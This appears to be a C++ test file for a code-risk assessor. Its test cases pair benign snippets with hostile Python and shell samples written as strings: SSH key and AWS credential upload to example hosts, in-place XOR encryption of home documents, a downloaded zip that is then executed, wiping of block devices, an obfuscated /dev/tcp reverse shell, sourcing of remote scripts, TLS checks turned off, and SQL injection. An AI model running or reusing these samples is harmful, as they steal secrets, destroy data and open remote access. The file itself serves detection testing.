// The classes the forty-eighth and forty-ninth rounds modelled (issue 14),
// found by programs written from the rubric alone by writers who never saw
// the assessor (tests/corpus/prog52_MANIFEST.tsv, prog53_MANIFEST.tsv):
// trojanized utilities, living off the land in shell, less common standard
// modules, staged payloads, unusual privileged spellings, prompt-injected
// helpers, notebook code and shell bootstrap scripts. Their asides scored
// 27/31 and 18/18 before any change; the classes below came from their tune
// parts (62/69 and 40/42 before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// Every write to a spool directory is read back by its glob: the notes
// queued first and the credentials queued after them alike.
TEST(FortyEighthRoundClasses, ASpoolHoldsEveryWriteToIt) {
  const Case cases[] = {
      {"credentials queued after notes, then the outbox uploaded", B,
       "import json, uuid, requests\nfrom pathlib import Path\n"
       "OUT = Path('.outbox')\n"
       "def enqueue(payload):\n"
       "    (OUT / f'{uuid.uuid4().hex}.json').write_text(json.dumps(payload))\n"
       "enqueue({'note': Path('notes.md').read_text()})\n"
       "enqueue({'ctx': (Path.home() / '.ssh/id_rsa').read_text()})\n"
       "for f in OUT.glob('*.json'):\n"
       "    requests.post('https://api.notes.example.com/v2/up', json=json.loads(f.read_text()), timeout=20)\n",
       "EXFILTRATION"},
      {"only notes queued and uploaded", L,
       "import json, uuid, requests\nfrom pathlib import Path\n"
       "OUT = Path('.outbox')\n"
       "def enqueue(payload):\n"
       "    (OUT / f'{uuid.uuid4().hex}.json').write_text(json.dumps(payload))\n"
       "enqueue({'note': Path('notes.md').read_text()})\n"
       "enqueue({'note': Path('todo.md').read_text()})\n"
       "for f in OUT.glob('*.json'):\n"
       "    requests.post('https://api.notes.example.com/v2/up', json=json.loads(f.read_text()), timeout=20)\n"},
  };
  for (const auto& c : cases) check(c);
}

// A writable mmap of a file writes that file (mm[:] = data), and a file's
// bytes XORed with a keystream from a random key are encrypted.
TEST(FortyEighthRoundClasses, MmapWritesAndKeystreamXor) {
  const Case cases[] = {
      {"home documents XORed in place through a writable mmap", B,
       "import os, mmap, hashlib, secrets\n"
       "key = secrets.token_bytes(32)\n"
       "for d, _, fs in os.walk(os.path.expanduser('~/Documents')):\n"
       "    for n in fs:\n"
       "        p = os.path.join(d, n)\n"
       "        with open(p, 'r+b') as fh:\n"
       "            with mmap.mmap(fh.fileno(), 0, access=mmap.ACCESS_WRITE) as mm:\n"
       "                ks = hashlib.blake2b(n.encode(), key=key, digest_size=64).digest() * 1000\n"
       "                mm[:] = bytes(a ^ b for a, b in zip(mm, ks))\n",
       "RANSOMWARE"},
      {"a read-only mmap of the project's logs searched", L,
       "import mmap\nfrom pathlib import Path\n"
       "for p in Path('logs').glob('*.log'):\n"
       "    with open(p, 'rb') as fh, mmap.mmap(fh.fileno(), 0, access=mmap.ACCESS_READ) as mm:\n"
       "        print(p, mm.find(b'ERROR'))\n"},
      {"a checksum XORed over a file's bytes", L,
       "data = open('firmware.bin', 'rb').read()\n"
       "x = 0\n"
       "for b in data:\n"
       "    x ^= b\n"
       "open('firmware.sum', 'w').write(str(x))\n"},
  };
  for (const auto& c : cases) check(c);
}

// zipimport's modern loading (find_spec, then exec_module) runs the archive's
// code; the archive object keeps the known one of its possible paths.
TEST(FortyEighthRoundClasses, ZipimportSpecsRunTheArchive) {
  const Case cases[] = {
      {"a downloaded zip loaded through find_spec", B,
       "import importlib.util, sys, urllib.request, zipimport\n"
       "from pathlib import Path\n"
       "def latest():\n"
       "    p = Path.home() / '.cache/pl/bundle.zip'\n"
       "    p.write_bytes(urllib.request.urlopen('https://cdn.example.net/b.zip', timeout=30).read())\n"
       "    return p\n"
       "b = max(Path('.').glob('*.zip')) if len(sys.argv) > 1 else latest()\n"
       "imp = zipimport.zipimporter(str(b))\n"
       "spec = imp.find_spec('main')\n"
       "m = importlib.util.module_from_spec(spec)\n"
       "spec.loader.exec_module(m)\n",
       "REMOTE-CODE-EXECUTION"},
  };
  for (const auto& c : cases) check(c);
}

// ConfigParser.read of a list reads every file in it.
TEST(FortyEighthRoundClasses, AListOfFilesIsReadWhole) {
  const Case cases[] = {
      {"cloud credentials read by ConfigParser and posted", B,
       "import configparser, json, requests\nfrom pathlib import Path\n"
       "cfg = configparser.ConfigParser()\n"
       "cfg.read([Path.home() / '.aws' / 'credentials', Path.home() / '.aws' / 'config'])\n"
       "prof = {s: dict(cfg.items(s)) for s in cfg.sections()}\n"
       "requests.post('https://metrics.example.net/ingest', data=json.dumps(prof), timeout=5)\n",
       "EXFILTRATION"},
      {"the project's own settings read and a status posted", L,
       "import configparser, requests\n"
       "cfg = configparser.ConfigParser()\n"
       "cfg.read(['setup.cfg', 'tox.ini'])\n"
       "requests.post('https://ci.example.net/status', json={'ok': bool(cfg.sections())}, timeout=5)\n"},
  };
  for (const auto& c : cases) check(c);
}

// Data written into each device a listing of /sys/block named wipes disks.
TEST(FortyEighthRoundClasses, WritingEveryListedDevice) {
  const Case cases[] = {
      {"zeros written to every block device", B,
       "import os\nfrom pathlib import Path\n"
       "for e in Path('/sys/block').iterdir():\n"
       "    fd = os.open('/dev/' + e.name, os.O_WRONLY)\n"
       "    os.write(fd, b'\\0' * 4096)\n",
       "WIPE"},
      {"every block device's size read", L,
       "from pathlib import Path\n"
       "for e in Path('/sys/block').iterdir():\n"
       "    print(e.name, (e / 'size').read_text().strip())\n"},
  };
  for (const auto& c : cases) check(c);
}

// Shell arithmetic over known values: $(( )), ${#s}, ${s:i:1} and a
// for (( )) loop run once per iteration, so a string reversed one character
// at a time is known.
TEST(FortyEighthRoundClasses, ShellArithmeticAndReversedStrings) {
  const Case cases[] = {
      {"a reverse shell assembled from reversed fragments and eval'd", B,
       "flip() { local s=\"$1\" out=\"\" i\n"
       "  for (( i=${#s}-1; i>=0; i-- )); do out+=\"${s:i:1}\"; done\n"
       "  printf '%s' \"$out\"; }\n"
       "if [ -n \"${1:-}\" ]; then\n"
       "  cmd=\"$(flip hsab) $(flip i-) >& /dev/tcp/$(cat relay)/$((4400 + 44)) 0>&1\"\n"
       "  nohup bash -c \"eval \\\"$cmd\\\"\" >/dev/null 2>&1 &\n"
       "fi\n",
       "REVERSE-SHELL", SH},
      {"a banner printed reversed for fun", L,
       "flip() { local s=\"$1\" out=\"\" i\n"
       "  for (( i=${#s}-1; i>=0; i-- )); do out+=\"${s:i:1}\"; done\n"
       "  printf '%s' \"$out\"; }\n"
       "echo \"$(flip olleh) $((6 * 7))\" > banner.txt\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A file of paths this script wrote is read back line by line (while read
// ... done < queue), and what it names runs.
TEST(FortyEighthRoundClasses, AQueueFileOfPathsIsReadBack) {
  const Case cases[] = {
      {"downloaded plugins queued by path and sourced", B,
       "Q=./.cache/load-order\n"
       "while read -r name; do\n"
       "  curl -fsSL -o \"./.cache/$name/init.sh\" \"https://plugins.example.dev/$name/init.sh\"\n"
       "  printf '%s\\n' \"./.cache/$name/init.sh\" >> \"$Q\"\n"
       "done < plugins.list\n"
       "while IFS= read -r script; do source \"$script\"; done < \"$Q\"\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the project's own scripts queued by path and sourced", L,
       "Q=./.cache/load-order\n"
       "for name in env paths aliases; do printf '%s\\n' \"./shell/$name.sh\" >> \"$Q\"; done\n"
       "while IFS= read -r script; do source \"$script\"; done < \"$Q\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A wget or curl configuration written with verification off, and SQL given
// to a database client with values formatted into it.
TEST(FortyEighthRoundClasses, ShellConfigsAndSqlClients) {
  const Case cases[] = {
      {"a wgetrc that turns certificate checks off", M,
       "cat > ./.mirror-wgetrc <<'EOF'\ncheck_certificate = off\ntries = 3\nEOF\n"
       "WGETRC=./.mirror-wgetrc wget -q -r https://artifacts.example.com/\n",
       "TLS-VERIFICATION-OFF", SH},
      {"a wgetrc with retries only", L,
       "cat > ./.mirror-wgetrc <<'EOF'\ntries = 3\ntimeout = 20\nEOF\n"
       "WGETRC=./.mirror-wgetrc wget -q -r https://artifacts.example.com/\n",
       nullptr, SH},
      {"an owner formatted into sqlite3's SQL", M,
       "owner=\"$1\"\nsqlite3 tokens.db \"INSERT INTO tokens (owner) VALUES ('$owner');\"\n",
       "SQL-INJECTION", SH},
      {"constant SQL given to sqlite3", L,
       "sqlite3 tokens.db 'SELECT owner, expires FROM tokens ORDER BY created;'\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
